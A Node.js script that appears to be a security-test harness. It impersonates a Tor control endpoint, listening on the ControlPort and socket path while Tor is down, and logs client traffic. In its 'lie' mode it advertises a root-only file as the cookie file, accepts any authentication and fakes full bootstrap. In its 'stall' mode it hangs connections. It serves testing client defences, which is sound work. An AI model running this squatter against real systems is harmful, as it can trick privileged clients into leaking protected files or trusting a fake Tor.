// The attacker's fake tor control endpoint, run as the attacker (the desktop
// user or an unnamed uid) while tor is down: it listens on the policy's TCP
// ControlPort and tries to listen at the configured control socket path too.
// Mode "lie": PROTOCOLINFO names COOKIEFILE (a root-only file the attacker
// wants), any AUTHENTICATE is accepted and the bootstrap is "100 %". Mode
// "stall": every connection is accepted and never answered. Everything
// received is appended to LOG as JSON lines.
//   node control-squatter.mjs SPEC.json
// SPEC: { tcp: { address, port }, unix?: path, log, mode: 'lie' | 'stall', cookieFile }
import { randomBytes } from 'node:crypto';
import { appendFileSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';

const spec = JSON.parse(readFileSync(process.argv[2], 'utf8'));
const log = (o) => appendFileSync(spec.log, `${JSON.stringify(o)}\n`);

function serve(via) {
  return createServer((sock) => {
    log({ event: 'connect', via });
    let buf = '';
    sock.setEncoding('latin1');
    sock.on('error', () => {});
    sock.on('data', (d) => {
      buf += d;
      for (let nl = buf.indexOf('\r\n'); nl >= 0; nl = buf.indexOf('\r\n')) {
        const line = buf.slice(0, nl);
        buf = buf.slice(nl + 2);
        log({ event: 'line', via, line });
        if (spec.mode === 'stall') continue;
        if (line.startsWith('PROTOCOLINFO'))
          sock.write(`250-PROTOCOLINFO 1\r\n250-AUTH METHODS=COOKIE,SAFECOOKIE COOKIEFILE="${spec.cookieFile}"\r\n250-VERSION Tor="0.4.9.1"\r\n250 OK\r\n`);
        else if (line.startsWith('AUTHCHALLENGE'))
          // it does not know tor's cookie: all it can send is noise
          sock.write(`250 AUTHCHALLENGE SERVERHASH=${randomBytes(32).toString('hex')} SERVERNONCE=${randomBytes(32).toString('hex')}\r\n`);
        else if (line.startsWith('AUTHENTICATE')) sock.write('250 OK\r\n');
        else if (line.startsWith('GETINFO status/bootstrap-phase'))
          sock.write('250-status/bootstrap-phase=NOTICE BOOTSTRAP PROGRESS=100 TAG=done SUMMARY="Done"\r\n250 OK\r\n');
        else sock.write('250 OK\r\n');
      }
    });
  });
}

await new Promise((resolve, reject) => {
  const s = serve('tcp');
  s.once('error', reject);
  s.listen(spec.tcp.port, spec.tcp.address, resolve);
});
log({ event: 'listening', via: 'tcp' });
if (spec.unix) {
  const result = await new Promise((resolve) => {
    const s = serve('unix');
    s.once('error', (e) => resolve(e.code ?? e.message));
    s.listen(spec.unix, () => resolve('listening'));
  });
  log({ event: 'unix', path: spec.unix, result });
}
process.stdout.write('ready\n');
setTimeout(() => process.exit(0), 600_000).unref();
